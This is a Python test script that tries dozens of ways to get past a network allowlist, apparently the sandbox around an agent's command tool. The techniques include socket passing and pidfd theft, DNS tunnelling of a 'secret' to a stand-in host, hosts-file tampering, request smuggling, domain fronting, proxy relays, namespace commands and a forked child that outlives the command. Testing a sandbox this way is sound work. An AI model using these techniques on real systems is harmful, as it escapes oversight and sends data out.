"""One way around the rules, run as a command: prints what came of it. Argument: its name."""

import contextlib
import ctypes
import errno
import os
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
TO = ("11.0.0.3", 80)
GET = b"GET /bad HTTP/1.1\r\nHost: elsewhere.example.com\r\nConnection: close\r\n\r\n"
GOOD = b"GET /hello HTTP/1.1\r\nHost: web.example.com\r\nConnection: close\r\n\r\n"
INET, INET6, STREAM, DGRAM = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM


def read(stream):
    answer = b""
    while more := stream.recv(65536):
        answer += more
    return answer


def ask(stream, *pieces):
    """The first line of the answer, and how many answers there are."""
    stream.settimeout(20)
    for piece in pieces:
        stream.sendall(piece)
    answer = read(stream)
    return " ".join(["answered", *[line[9:12].decode() for line in answer.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]])


def to(host, port=80, *pieces):
    return ask(socket.create_connection((host, port), 20), *pieces or (GET,))


def name_of(family, address, port):
    if family == INET:
        return struct.pack("=H", INET) + struct.pack(">H", port) + socket.inet_aton(address) + bytes(8)
    return struct.pack("=H", INET6) + struct.pack(">HI", port, 0) + socket.inet_pton(INET6, address) + bytes(4)


def every(*attempts):
    """Each of several, with a short name of what came of it."""
    return ", ".join(outcome(attempt) for attempt in attempts)


def outcome(attempt):
    try:
        return str(attempt())
    except socket.gaierror as error:
        return f"name {error.errno}"
    except OSError as error:
        return errno.errorcode.get(error.errno, type(error).__name__)
    except UnicodeError:
        return "no name"


def kind(family, type_=STREAM, protocol=0, address=None):
    def attempt():
        with socket.socket(family, type_, protocol) as one:
            one.settimeout(5)
            if address:
                one.connect(address)
        return "made"

    return attempt


def fast_open(flags=0x20000000):
    with socket.socket() as one:
        one.sendto(GET, flags, TO)
        return ask(one)


def fast_open_message():
    with socket.socket() as one:
        one.sendmsg([GET], [], 0x20000000, TO)
        return ask(one)


def fast_open_later():
    """TCP_FASTOPEN_CONNECT (tcp(7)): connect() sends nothing, the first write does."""
    with socket.socket() as one:
        one.setsockopt(socket.IPPROTO_TCP, 30, 1)
        one.connect(TO)
        return ask(one, GET)


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Message(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint), ("iov", ctypes.c_void_p), ("iov_length", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t), ("flags", ctypes.c_int)]


class Messages(ctypes.Structure):
    _fields_ = [("head", Message), ("length", ctypes.c_uint)]


def many_messages(type_, flags):
    """sendmmsg(2): the first one to where it may, the second one to where it may not."""
    with socket.socket(INET, type_) as one:
        data = ctypes.create_string_buffer(GET)
        iov = Iovec(ctypes.addressof(data), len(GET))
        names = [ctypes.create_string_buffer(name_of(INET, *place), 16) for place in [("11.0.0.4", 53), TO if type_ == STREAM else ("11.0.0.3", 53)]]
        all_ = (Messages * 2)(*[Messages(Message(ctypes.addressof(name), 16, ctypes.addressof(iov), 1), 0) for name in names[:: -1 if type_ == STREAM else 1]])
        return f"{libc_result(libc.sendmmsg(one.fileno(), all_, 2, flags))}"


def call(*words):
    return libc_result(libc.syscall(*words))


def libc_result(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "")
    return result


def again():
    """Connected to where it may, let go by AF_UNSPEC (connect(2)), connected to where it may not."""
    with socket.socket() as one:
        one.connect(("web.example.com", 80))
        libc_result(libc.connect(one.fileno(), struct.pack("=H", 0) + bytes(14), 16))
        one.connect(TO)
        return ask(one, GET)


def unspecified():
    """AF_UNSPEC with an address of AF_INET behind it."""
    with socket.socket() as one:
        libc_result(libc.connect(one.fileno(), b"\0\0" + name_of(INET, *TO)[2:], 16))
        return ask(one, GET)


def again_datagrams():
    with socket.socket(INET, DGRAM) as one:
        one.connect(("11.0.0.4", 53))
        return every(lambda: one.sendto(b"out", ("11.0.0.3", 53)), lambda: one.connect(("11.0.0.3", 443)), lambda: one.send(b"out"))


def long_address():
    with socket.socket() as one:
        name = name_of(INET, *TO) + b"x" * 112
        return every(*[lambda length=length: libc_result(libc.connect(one.fileno(), name, length)) for length in (128, 100, 15, 8, 2, 0)])


def flipped():
    """The address changes while the call is looked at."""
    good, bad = name_of(INET, "11.0.0.6", 80), name_of(INET, *TO)
    name = ctypes.create_string_buffer(good, 16)
    stop = time.monotonic() + 3

    def flip():
        while time.monotonic() < stop:
            ctypes.memmove(name, bad, 16)
            ctypes.memmove(name, good, 16)

    threading.Thread(target=flip, daemon=True).start()
    came = {}
    while time.monotonic() < stop:
        with socket.socket() as one:
            result = libc.connect(one.fileno(), name, 16)
            what = "connected" if result == 0 else errno.errorcode[ctypes.get_errno()]
            came[what] = came.get(what, 0) + 1
    return " and ".join(sorted(came))


def flipped_descriptor():
    """The descriptor leads to another socket while the call is looked at."""
    stop = time.monotonic() + 3
    fd = os.dup(0)

    def flip():
        while time.monotonic() < stop:
            with socket.socket() as one, socket.socket(INET, DGRAM) as other:
                os.dup2(one.fileno(), fd)
                os.dup2(other.fileno(), fd)

    threading.Thread(target=flip, daemon=True).start()
    count = 0
    while time.monotonic() < stop:
        for place in (("11.0.0.6", 80), TO, ("11.0.0.3", 53)):
            name = name_of(INET, *place)
            count += 1
            # What is allowed is an address, whatever name is asked for there.
            asked = GET.replace(b"elsewhere.example.com", place[0].encode())
            if libc.connect(fd, name, 16) == 0:
                libc.send(fd, asked, len(asked), 0x40 | 0x4000)
            libc.sendto(fd, b"out", 3, 0x40 | 0x4000, name, 16)
    return "tried" if count else "not tried"


def received(path):
    """Sockets of a process outside, over a unix socket in a directory that both may write."""
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(20)
        one.connect(path)
        _, fds, _, _ = socket.recv_fds(one, 1, 8)
    tcp, udp, connected = [socket.socket(fileno=fd) for fd in fds[:3]]
    return every(
        lambda: tcp.connect(TO),
        lambda: tcp.sendto(GET, 0x20000000, TO),
        lambda: udp.sendto(b"out", ("11.0.0.3", 443)),
        lambda: udp.connect(("11.0.0.3", 443)),
        lambda: udp.send(b"out"),
        lambda: connected.connect(TO),
    )


def passed_on():
    """A socket of another command, over a unix socket in a directory that both may write. This is both commands, in turn."""
    if os.path.exists("give"):
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(20)
            one.connect("give")
            _, fds, _, _ = socket.recv_fds(one, 1, 2)
        free, connected = [socket.socket(fileno=fd) for fd in fds]
        return every(lambda: free.connect(TO), lambda: connected.connect(TO), lambda: ask(connected, GET))
    with socket.socket(socket.AF_UNIX) as door, socket.socket() as free:
        door.bind("give")
        door.listen()
        print("gives", flush=True)
        stream, _ = door.accept()
        with contextlib.suppress(OSError):
            free.connect(TO)
        with socket.create_connection(("web.example.com", 80)) as connected:
            socket.send_fds(stream, [b"x"], [free.fileno(), connected.fileno()])
        stream.recv(1)
        return "given"


def inherited():
    """Sockets that there were before, by their numbers and in /proc."""
    tries, found = 0, []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            for fd in os.listdir(f"/proc/{pid}/fd"):
                path = f"/proc/{pid}/fd/{fd}"
                with contextlib.suppress(OSError):
                    if not os.readlink(path).startswith("socket:"):
                        continue
                    tries += 1
                    found.append(outcome(lambda: os.close(os.open(path, os.O_RDWR))))
                    if pid == str(os.getpid()):
                        one = socket.socket(fileno=os.dup(int(fd)))
                        found += [outcome(lambda: one.connect(TO)), outcome(lambda: one.sendto(b"out", TO))]
    return f"{tries} sockets, {sorted(set(found))}"


def taken():
    """pidfd_getfd(2) of every process that there is."""
    came = set()
    own = os.getsid(0)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if outcome(lambda: os.getsid(int(pid))) != str(own):
            came.add(outcome(lambda: [call(438, os.pidfd_open(int(pid)), fd, 0) for fd in range(3)] and "taken"))
    return sorted(came - {"EACCES", "EPERM", "ESRCH", "EBADF", "ENOSYS"})


def options():
    def set_(level, option, value):
        def attempt():
            with socket.socket() as one:
                one.setsockopt(level, option, value)
                one.settimeout(5)
                one.connect(TO)
            return "connected"

        return attempt

    # SO_BINDTODEVICE, SO_BINDTOIFINDEX, SO_MARK, IP_TRANSPARENT, IP_OPTIONS with a source route, SO_COOKIE is only read.
    return every(set_(1, 25, b"lo"), set_(1, 62, 1), set_(1, 36, 1), set_(0, 19, 1), set_(0, 4, bytes([131, 7, 4, 11, 0, 0, 3, 0])))


def route():
    """A device of its own, by netlink (rtnetlink(7)): RTM_NEWLINK, RTM_NEWADDR, RTM_NEWROUTE."""

    def send(kind_, body):
        with socket.socket(16, 3, 0) as one:
            one.send(struct.pack("=IHHII", 16 + len(body), kind_, 0x405, 1, 0) + body)
            return errno.errorcode.get(-struct.unpack("=i", one.recv(4096)[16:20])[0], "done")

    link = struct.pack("=BBHiII", 0, 0, 0, 1, 1, 1)
    way = struct.pack("=BBBBBBBBI", INET, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
    return every(lambda: send(16, link), lambda: send(24, way), lambda: subprocess.run(["ip", "link", "add", "d0", "type", "dummy"], stderr=-3).returncode)


def io_uring():
    return outcome(lambda: call(425, 8, ctypes.create_string_buffer(120)))


def hosts_file():
    """Another meaning of an allowed name, by the files that say it."""
    line = "11.0.0.3 web.example.com\n"

    def write(path):
        def attempt():
            with open(path, "w") as file:
                file.write(line)
            return "written"

        return attempt

    def rename():
        open("hosts", "w").write(line)
        os.rename("hosts", "/etc/hosts")
        return "renamed"

    def mount():
        libc_result(libc.mount(os.path.abspath("hosts").encode(), b"/etc/hosts", None, 4096, None))
        return "mounted"

    def race():
        stop = time.monotonic() + 2
        while time.monotonic() < stop:
            for change in (write("/etc/hosts"), rename, write("/etc/resolv.conf")):
                outcome(change)
            try_once()
        return "raced"

    def try_once():
        with contextlib.suppress(OSError), socket.create_connection(("web.example.com", 80), 5) as one:
            ask(one, GOOD)

    open("aliases", "w").write("web elsewhere.example.com\n")
    aliased = subprocess.run(["curl", "-sS", "-m", "10", "http://web/bad"], env={"HOSTALIASES": "aliases", "PATH": os.environ["PATH"]}, capture_output=True).returncode
    return every(write("/etc/hosts"), rename, mount, write("/etc/resolv.conf"), write("/etc/nsswitch.conf"), race) + f", {aliased}"


def question(name, host="11.0.0.4", kind_=1, tcp=False):
    """What an answerer of names says: its code and how many answers (RFC 1035, 4.1.1)."""
    labels = b"".join(bytes([len(label)]) + label for label in name.encode("latin-1").split(b".")) + b"\0"
    text = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind_, 1)
    with socket.socket(INET, STREAM if tcp else DGRAM) as one:
        one.settimeout(5)
        one.connect((host, 53))
        one.send(struct.pack(">H", len(text)) + text if tcp else text)
        answer = one.recv(4096)[2 if tcp else 0 :]
    return f"{answer[3] & 15}/{struct.unpack('>H', answer[6:8])[0]}"


def questions():
    secret = "c2VjcmV0"
    return every(
        lambda: question(f"{secret}.elsewhere.example.com"),
        lambda: question(f"{secret}.web.example.com"),
        lambda: question(f"{secret}.evil.wild.example.com"),
        lambda: question("elsewhere.example.com", "11.0.0.2"),
        lambda: question("elsewhere.example.com", "11.0.0.3"),
        lambda: question(f"{secret}.elsewhere.example.com", kind_=16),
        lambda: question("web.example.com", kind_=16),
        lambda: question("web.example.com", kind_=255),
        lambda: question("web.example.com\0.elsewhere"),
        lambda: question("3.0.0.11.in-addr.arpa", kind_=12),
        lambda: question(f"{secret}.elsewhere.example.com", tcp=True),
        lambda: question(f"{secret}.elsewhere.example.com", "11.0.0.2", tcp=True),
    )


def rebinding():
    """The name leads to a public address and to a private one, in turn."""
    return to("rebind.example.com", 80, b"GET /hello HTTP/1.1\r\nHost: rebind.example.com\r\nConnection: close\r\n\r\n")


def spellings():
    hosts = ["013.0.0.3", "0xb.0.0.3", "0xb000003", "184549379", "11.3", "11.0.3", "::ffff:11.0.0.3", "::11.0.0.3", "64:ff9b::b00:3", "2002:b00:3::1",
             "0.0.0.0", "0", "::", "::ffff:0.0.0.0", "::ffff:127.0.0.1", "127.1", "169.254.169.254", "::ffff:169.254.169.254", "0251.0376.0251.0376",
             "2852039166", "fe80::1%1", "２.０.０.２", "11。0。0。3", "224.0.0.1", "255.255.255.255"]
    # Own loopback answers with a refusal; what else there is is no rule's.
    return every(*[lambda host=host: to(host) for host in hosts])


def names():
    def get(host, said=None):
        return lambda: to(host, 80, f"GET /hello HTTP/1.1\r\nHost: {said or host}\r\nConnection: close\r\n\r\n".encode())

    return every(get("web.example.com."), get("WEB.Example.COM"), get("web.example.com", "web.example.com."), get("web.example.com", "WEB.example.com:80"),
                 get("elsewhere.example.com."), get("ELSEWHERE.example.com"), get("web.example.com.elsewhere.example.com"), get("web。example.com"),
                 get("web.example.com", "elsewhere.example.com."), get("web.example.com", "web.example.com@elsewhere.example.com"),
                 get("web.example.com", "web.example.com, elsewhere.example.com"), get("xn--web-.example.com"), get("web.example.com..", "web.example.com"))


def hello(*names_, more=b"", versions=b""):
    """A ClientHello that asks for these names (RFC 6066, 3)."""
    entries = b"".join(b"\0" + struct.pack(">H", len(name)) + name for name in names_)
    extensions = struct.pack(">HHH", 0, len(entries) + 2, len(entries)) + entries if names_ else b""
    extensions += more + struct.pack(">HHHH", 13, 4, 2, 0x0401)
    body = b"\3\3" + bytes(32) + b"\0" + b"\0\2\xc0\x2f" + b"\1\0" + struct.pack(">H", len(extensions)) + extensions
    return b"\1" + struct.pack(">I", len(body))[1:] + body


def records(message, size=1 << 14):
    return b"".join(b"\x16\3\1" + struct.pack(">H", len(message[at : at + size])) + message[at : at + size] for at in range(0, len(message), size))


def hellos():
    web, other = b"web.example.com", b"elsewhere.example.com"
    bad = struct.pack(">HHHBH", 0, len(other) + 5, len(other) + 3, 0, len(other)) + other

    def said(*pieces):
        return lambda: to("web.example.com", 443, *pieces)

    return every(
        said(records(hello(other))), said(records(hello(web, other))), said(records(hello(other, web))), said(records(hello(web, more=bad))),
        said(records(hello(other), 7)), said(*[bytes([byte]) for byte in records(hello(other))]), said(records(hello(web + b"\0." + other))),
        said(records(hello())), said(records(hello(b"11.0.0.3"))), said(records(hello(b""))), said(b"\x16\3\1\0\0" * 3 + records(hello(other))),
        said(GOOD), said(b"\x15\3\1\0\2\1\0" + records(hello(other))), said(b"\x80\x2e\1\3\1\0\x15\0\0\0\x10" + bytes(37)), said(records(hello(web))[:-1] + b"x" * 300),
    )


def over_tls(*pieces, host="opened.example.com", server_name=None, offers=("http/1.1",)):
    context = ssl.create_default_context()
    context.check_hostname = server_name is None
    context.set_alpn_protocols(offers)
    return context.wrap_socket(socket.create_connection((host, 443), 20), server_hostname=server_name or host)


def fronting():
    def said(host, **more):
        return lambda: ask(over_tls(**more), f"GET /ok/hello HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())

    absolute = b"GET https://elsewhere.example.com/ok/bad HTTP/1.1\r\nHost: opened.example.com\r\nConnection: close\r\n\r\n"
    return every(said("opened.example.com"), said("elsewhere.example.com"), said("web.example.com"), said("opened.example.com", server_name="elsewhere.example.com"),
                 lambda: ask(over_tls(), absolute))


def frame(kind_, flags, stream, body):
    return struct.pack(">I", len(body))[1:] + bytes([kind_, flags]) + struct.pack(">I", stream) + body


def field(name, value):
    """A literal without an index (RFC 7541, 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def coalescing():
    """HTTP/2: a second request on a connection, to another authority; and what else its heads could hide (RFC 9113, 8.3)."""
    statuses = []
    own = b"second.example.com"
    heads = [(own, None, []), (own, b"/bad", []), (b"elsewhere.example.com", None, []), (b"web.example.com", None, []), (own, None, [(b"host", b"elsewhere.example.com")]),
             (own + b":444", None, []), (b"x@" + own, None, []), (own, b"/ok/x HTTP/1.1\r\nHost: elsewhere.example.com\r\n\r\nGET /bad", []),
             (own, None, [(b"x", b"y\r\n\r\nGET /bad HTTP/1.1\r\nHost: x\r\n\r\n")]), (own, None, [(b"transfer-encoding", b"chunked")]), (own, None, [(b":path", b"/bad")])]
    for authority, path, more in heads:
        def one():
            stream = over_tls(host="second.example.com", offers=("h2",))
            stream.settimeout(5)
            block = b"".join(field(*pair) for pair in [(b":method", b"GET"), (b":scheme", b"https"), (b":path", b"/ok/hello" if path is None else path), (b":authority", authority), *more])
            stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 5, 1, block))
            data = b""
            while True:
                while len(data) < 9 or len(data) < 9 + int.from_bytes(data[:3], "big"):
                    more_ = stream.recv(65536)
                    if not more_:
                        return "ended"
                    data += more_
                length, type_ = int.from_bytes(data[:3], "big"), data[3]
                body, data = data[9 : 9 + length], data[9 + length :]
                if type_ in (3, 7):
                    return "reset"
                if type_ == 1:
                    # :status 200 is index 8; others are literals (RFC 7541, A).
                    return "200" if body[:1] == b"\x88" or b"200" in body[:8] else "refused"
        statuses.append(outcome(one))
    return " ".join(statuses)


def smuggling():
    """A second request that one side sees and the other does not."""
    bad = b"GET /bad HTTP/1.1\r\nHost: opened.example.com\r\nConnection: close\r\n\r\n"

    def post(*fields, body):
        return lambda: ask(over_tls(), "\r\n".join(["POST /ok/post HTTP/1.1", "Host: opened.example.com", *fields, "", ""]).encode("latin-1") + body)

    chunked = "Transfer-Encoding: chunked"
    return every(
        post("Content-Length: 6", chunked, body=b"0\r\n\r\n" + bad),
        post("Transfer-Encoding: chunked\x0b", body=b"0\r\n\r\n" + bad),
        post("Transfer-Encoding:\tchunked, identity", body=b"0\r\n\r\n" + bad),
        post("Transfer-Encoding: \"chunked\"", body=b"0\r\n\r\n" + bad),
        post("Transfer-Encoding: chunked;q=1", "Content-Length: 5", body=b"0\r\n\r\n" + bad),
        post("Transfer_Encoding: chunked", "Content-Length: 5", body=b"0\r\n\r\n" + bad),
        post("Content-Length: 0, 0", body=bad),
        post("Content-Length: 0x10", body=bad),
        post("Content-Length: 18446744073709551616", body=bad),
        post("Content_Length: 0", body=bad),
        post(chunked, body=b"1;a=\nb\r\nx\r\n0\r\n\r\n" + bad),
        post(chunked, body=b"1\nx\n0\n\n" + bad),
        post(chunked, body=b"0x1\r\nx\r\n0\r\n\r\n" + bad),
        post(chunked, body=b"-1\r\nx\r\n0\r\n\r\n" + bad),
        post(chunked, "Trailer: Host", body=b"0\r\nHost: elsewhere.example.com\r\n\r\n" + bad),
        post("Connection: Content-Length", "Content-Length: 3", body=b"abc"),
        post("Expect: 100-continue", "Content-Length: 0", body=bad),
        post("Upgrade: h2c", "Connection: Upgrade", body=bad),
        lambda: ask(over_tls(), b"GET /ok/hello HTTP/1.1\r\nHost: opened.example.com\r\nContent-Length: %d\r\n\r\n" % len(bad) + bad + bad),
        lambda: ask(over_tls(), b"GET /ok/hello\rHTTP/1.1\r\nHost: opened.example.com\r\n\r\n"),
        lambda: ask(over_tls(), b"GET /ok/../bad HTTP/1.1\r\nHost: opened.example.com\r\nConnection: close\r\n\r\n"),
        lambda: ask(over_tls(), b"GET /ok/%2e%2e/bad HTTP/1.1\r\nHost: opened.example.com\r\nConnection: close\r\n\r\n"),
        lambda: ask(over_tls(), b"GET /ok/\xc0\xae\xc0\xae/bad HTTP/1.1\r\nHost: opened.example.com\r\nConnection: close\r\n\r\n"),
    )


def relays():
    """A relay at an allowed host, and one for whom that is the whole port."""
    def said(text, host="web.example.com", port=80):
        return lambda: to(host, port, text)

    return every(
        said(b"CONNECT elsewhere.example.com:80 HTTP/1.1\r\nHost: elsewhere.example.com:80\r\n\r\n" + GET),
        said(b"CONNECT elsewhere.example.com:80 HTTP/1.1\r\nHost: web.example.com\r\n\r\n" + GET),
        said(b"CONNECT elsewhere.example.com:80 HTTP/1.1\r\nHost: relay.example.com\r\n\r\n" + GET, "relay.example.com", 8080),
        said(b"connect elsewhere.example.com:80 HTTP/1.1\r\nHost: relay.example.com:8080\r\n\r\n" + GET, "relay.example.com", 8080),
        said(b"GET http://elsewhere.example.com/bad HTTP/1.1\r\nHost: web.example.com\r\n\r\n"),
        said(b"GET http://elsewhere.example.com/bad HTTP/1.1\r\nHost: relay.example.com:8080\r\n\r\n", "relay.example.com", 8080),
        said(b"GET //elsewhere.example.com/bad HTTP/1.1\r\nHost: elsewhere.example.com\r\n\r\n", "relay.example.com", 8080),
        said(b"\x05\x01\x00\x05\x01\x00\x01\x0b\0\0\x03\0P" + GET),
        said(b"\x04\x01\0P\x0b\0\0\x03\0" + GET),
        said(b"PROXY TCP4 11.0.0.2 11.0.0.3 1 80\r\n" + GET),
    )


def without_variables():
    return " ".join(str(subprocess.run(words, env={}, stderr=-3, stdout=-3).returncode) for words in [
        ["/usr/bin/curl", "-m", "10", "http://elsewhere.example.com/bad"],
        ["/usr/bin/curl", "-m", "10", "--noproxy", "*", "http://11.0.0.3/bad"],
        ["/usr/bin/curl", "-m", "10", "--resolve", "web.example.com:80:11.0.0.3", "http://web.example.com/bad"],
        ["/usr/bin/curl", "-m", "10", "--connect-to", "web.example.com:80:elsewhere.example.com:80", "http://web.example.com/bad"],
        ["/usr/bin/curl", "-m", "10", "-x", "http://11.0.0.3:80", "http://web.example.com/bad"],
        ["/usr/bin/curl", "-m", "10", "-x", "socks5h://web.example.com:80", "http://elsewhere.example.com/bad"],
        ["/bin/sh", "-c", "setsid -w /usr/bin/curl -m 10 http://11.0.0.3/bad"],
        ["/bin/sh", "-c", "unshare -rn true || nsenter -t 1 -n true"],
    ])


def compat():
    """connect by other tables of system calls: int 0x80, x32. The program says what came of each."""
    return subprocess.run(["./other-calls"], capture_output=True, text=True).stdout.strip()


def left_behind():
    """A child that outlives the call of execute_command tries on."""
    if os.fork() == 0:
        os.setsid()
        while True:
            outcome(lambda: to("11.0.0.3"))
            time.sleep(0.01)
    return "left"


ATTEMPTS = {
    "none: what is allowed": lambda: every(lambda: to("web.example.com", 80, GOOD), lambda: to("11.0.0.6", 80, GOOD)),
    "plain HTTP": lambda: every(lambda: to("elsewhere.example.com"), lambda: to("11.0.0.3"), lambda: to("web.example.com"), lambda: to("11.0.0.2", 80, GOOD)),
    "relays through allowed hosts": relays,
    "variables unset, proxies of programs": without_variables,
    "a socket of another command": passed_on,
    "sockets of a process outside": lambda: received("outside"),
    "sockets made before, /proc/PID/fd": inherited,
    "pidfd_getfd": taken,
    "options of sockets": options,
    "bound to an address first": lambda: socket.create_connection(TO, 5, ("11.0.0.2", 0)),
    "MPTCP": kind(INET, STREAM, 262, TO),
    "SCTP": lambda: every(kind(INET, STREAM, 132, TO), kind(INET, 5, 132), kind(INET6, STREAM, 132)),
    "DCCP": lambda: every(kind(INET, 6, 33, TO), kind(INET6, 6, 33)),
    "UDP-Lite, SMC, RDS, TIPC, XDP": lambda: every(kind(INET, DGRAM, 136), kind(43, STREAM), kind(21, 5), kind(30, STREAM), kind(44, 3)),
    "vsock": lambda: every(kind(40, STREAM), kind(40, DGRAM)),
    "raw, packet, ICMP": lambda: every(kind(INET, 3, 1), kind(INET, 3, 255), kind(17, 3), kind(17, DGRAM), kind(INET, DGRAM, 1), kind(INET6, 3, 58)),
    "netlink": route,
    "io_uring": io_uring,
    "fast open": lambda: every(fast_open, lambda: fast_open(0x20004000), fast_open_message, fast_open_later),
    "sendmmsg": lambda: every(lambda: many_messages(DGRAM, 0), lambda: many_messages(STREAM, 0x20000000)),
    "connected again": lambda: every(again, unspecified),
    "datagrams": lambda: every(again_datagrams, lambda: socket.socket(INET, DGRAM).sendto(b"out", ("11.0.0.2", 443)), lambda: socket.socket(INET6, DGRAM).sendto(b"out", ("::ffff:11.0.0.3", 53)), lambda: socket.socket(INET, DGRAM).sendto(b"out", ("239.1.2.3", 5353))),
    "lengths of addresses": long_address,
    "an address that changes meanwhile": flipped,
    "a descriptor that changes meanwhile": flipped_descriptor,
    "other tables of system calls": compat,
    "names over allowed hosts": questions,
    "spellings of addresses": spellings,
    "spellings of names": names,
    "IPv6 of a host without a rule": lambda: every(lambda: to("2a00::3"), lambda: to("::ffff:0b00:0003")),
    "rebinding": rebinding,
    "files of names": hosts_file,
    "ClientHello": hellos,
    "domain fronting on an opened host": fronting,
    "HTTP/2 coalescing": coalescing,
    "request smuggling": smuggling,
    "a child that stays": left_behind,
}

if __name__ == "__main__":
    print(outcome(ATTEMPTS[sys.argv[1]]), flush=True)
